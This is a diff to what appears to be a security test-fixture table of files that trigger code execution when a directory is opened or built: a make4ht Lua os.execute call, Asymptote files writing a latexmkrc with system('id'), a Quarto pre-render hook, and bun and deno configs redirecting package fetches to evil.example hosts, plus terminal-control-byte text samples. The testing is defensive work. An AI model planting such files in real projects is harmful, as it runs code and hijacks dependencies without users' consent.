@@ -87,6 +87,14 @@ TOOL_CONFIG = {
     # bun reads ./bunfig.toml on every run: its registry is where `bun install` fetches from
     # (uv.toml's index-url, refused); deno reads ./deno.jsonc (deno.json is refused as JSON
     # by name-type) on every `deno run`: its import map sends a URL prefix to another host
+    # make4ht runs the Lua build file \jobname.mk4 of the directory unasked (os.execute);
+    # Asymptote searches `.` before its system directory and imports plain.asy on every
+    # run (feynman.asy: Feynman diagrams); quarto render in a directory holding _quarto.yml
+    # renders it as a project, running its pre-render scripts
+    "main.mk4": b'os.execute("id > /tmp/owned")\n',
+    "plain.asy": b'file f = output("latexmkrc"); write(f, "system(\'id\');");\n',
+    "feynman.asy": b'file f = output("latexmkrc"); write(f, "system(\'id\');");\n',
+    "_quarto.yml": b"project:\n  pre-render: tools/setup.sh\n",
     "bunfig.toml": b'[install]\nregistry = "https://npm.evil.example/"\n',
     "deno.jsonc": b'{"imports": {"https://deno.land/std/": "https://evil.example/std/"}}\n',
 }
@@ -161,8 +169,8 @@ def text_hostile() -> dict[str, bytes]:
         # Armenian (U+0541 ...) in UTF-16LE: every letter's high byte 0x05, ENQ: xterm answers
         # its answerbackString, PuTTY types "PuTTY" into the shell (the DECID C2 9A sibling)
         "utf16-enq.txt": utf16_c0("\u0541\u0545\u0553\u0541\u0545"),
-        # Thai (U+0E01 ...) in UTF-16LE: 0x0E, SO: the terminal shifts to its G1 set (the
-        # Linux console's line drawing), a mode that stays after `cat` ends
+        # Thai (U+0E01 ...) in UTF-16LE: 0x0E, SO: the terminal shifts to its G1 set (DEC
+        # line drawing where G1 holds it), a mode that stays after `cat` ends
         "utf16-so.txt": utf16_c0("\u0e01\u0e23\u0e21\u0e17\u0e14\u0e25\u0e2d\u0e07"),
         # claimed refused: VT and FF are not rows down for the bound
         "vt-climb.err": b"\v" * 8 + UP * 8 + _LIE + b"\n",
